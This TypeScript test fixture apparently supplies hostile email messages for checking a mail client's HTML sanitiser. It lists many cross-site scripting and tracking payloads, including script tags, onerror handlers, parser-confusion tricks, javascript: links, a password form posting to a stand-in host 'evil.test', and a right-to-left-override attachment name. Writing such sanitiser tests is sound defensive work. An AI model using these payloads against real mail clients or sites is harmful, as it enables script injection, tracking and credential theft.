import type { MailMessageJson } from "../../src/contract/http/index.ts";
import { MESSAGE } from "./told-mail.ts";

/** Where nothing is ever to be asked for. */
const EVIL = "http://evil.test";

/** A pixel of its own, which may be shown. */
const OWN_PICTURE = "data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs=";

/** Every way that is known by which a message has run a program, asked for something, or covered the page around it. */
const PARTS: readonly string[] = [
  '<img src=x onerror="ranAway()">',
  "<script>ranAway()</script>",
  `<script src="${EVIL}/a.js"></script>`,
  "<svg><animate onbegin=ranAway() attributeName=x dur=1s></svg>",
  "<svg onload=ranAway()><script>ranAway()</script></svg>",
  "<math><mtext><style><img src=x onerror=ranAway()></style></mtext></math>",
  '<noscript><p title="</noscript><img src=x onerror=ranAway()>"></noscript>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ranAway()>",
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/form"><input name=password autofocus onfocus=ranAway()><button>Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<link rel="stylesheet" href="${EVIL}/a.css"><link rel="prefetch" href="${EVIL}/p"><link rel="dns-prefetch" href="//evil.test">`,
  `<style>@import url("${EVIL}/import.css"); body { background: url(${EVIL}/style.png) }</style>`,
  `<p style="background-image: url('${EVIL}/inline.png')">styled</p>`,
  '<div style="position:fixed;inset:0;background:red;z-index:9999">over it all</div>',
  `<a href="${EVIL}/a?" onmouseover="ranAway()">hover me</a>`,
  '<a href="javascript:ranAway()">go</a><a href="JaVa&#10;script:ranAway()">go on</a>',
  '<a href="data:text/html,<script>ranAway()</script>">as data</a>',
  `<a href="https://bank.example@evil.test/">the bank</a>`,
  '<a href="https://jobs.globex.example/pick?round=2">Choose a time</a>',
  `<img src="${EVIL}/pixel.gif" width=1 height=1><img srcset="${EVIL}/set.png 1x" alt="A chart">`,
  `<picture><source srcset="${EVIL}/source.png"><img src="${EVIL}/picture.png"></picture>`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/v.png" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/cell.png">In a table</td></tr></table>`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  '<iframe srcdoc="<script>parent.ranAway()</script>"></iframe>',
  '<img src="cid:nowhere@evil.test" alt="A picture that came along">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbkF3YXkoKSI+">',
  `<img src="${OWN_PICTURE}" alt="A pixel" title="x">`,
  '<a name="location"></a><img name="body"><form id="document"></form>',
  // Leaves open what no end of a table closes, and so comes last.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ranAway()&gt;">',
];

/** Each in a cell of its own: what one leaves open ends with its cell, and swallows no other. */
const APART = PARTS.map((part) => `<table><tr><td>${part}</td></tr></table>`).join("\n");

const page = (inside: string) =>
  `<html><body onload="ranAway()"><h1>Dear Alex</h1><p>We mean to <b>decide</b> by Friday.</p>${inside}</body></html>`;

/** A message that means harm in every known way, and says something as well. */
export const HOSTILE_MESSAGE: MailMessageJson = {
  ...MESSAGE,
  text: 'We mean to decide by Friday. <img src=x onerror="ranAway()"> http://a.example/?"onmouseover="ranAway()',
  whole: "We mean to decide by Friday.\n\n<script>ranAway()</script>",
  html: page(APART),
  attachments: [
    { name: '"><img src=x onerror=ranAway()>\u202Efdp.exe', type: "application/octet-stream", bytes: 1_400_000 },
  ],
};

/** The same, each in what the one before left open. */
export const TANGLED_MESSAGE: MailMessageJson = { ...HOSTILE_MESSAGE, html: page(PARTS.toReversed().join("\n")) };
